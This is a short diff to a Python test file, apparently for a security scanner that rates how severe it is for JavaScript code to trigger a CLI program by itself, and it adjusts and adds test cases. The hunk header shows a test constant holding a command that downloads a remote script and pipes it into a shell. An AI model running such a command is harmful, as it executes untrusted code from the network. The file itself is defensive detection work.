@@ -192,7 +192,9 @@ LINE = "curl http://a.example.invalid/x | sh"
     [
         ("module.exports = program;", Severity.MEDIUM),
         ("program.parse(['node', 'x', 'go']);", Severity.CRITICAL),
-        ("program.parseAsync(process.argv);", Severity.CRITICAL),
+        ("program.parseAsync(process.argv);", Severity.MEDIUM),
+        ("process.argv.push('go');\nprogram.parse();", Severity.CRITICAL),
+        ("program.command('x', {isDefault: true});\nprogram.parse();", Severity.CRITICAL),
     ],
 )
 def test_what_a_command_does_waits_for_its_words(after: str, severity: Severity) -> None:
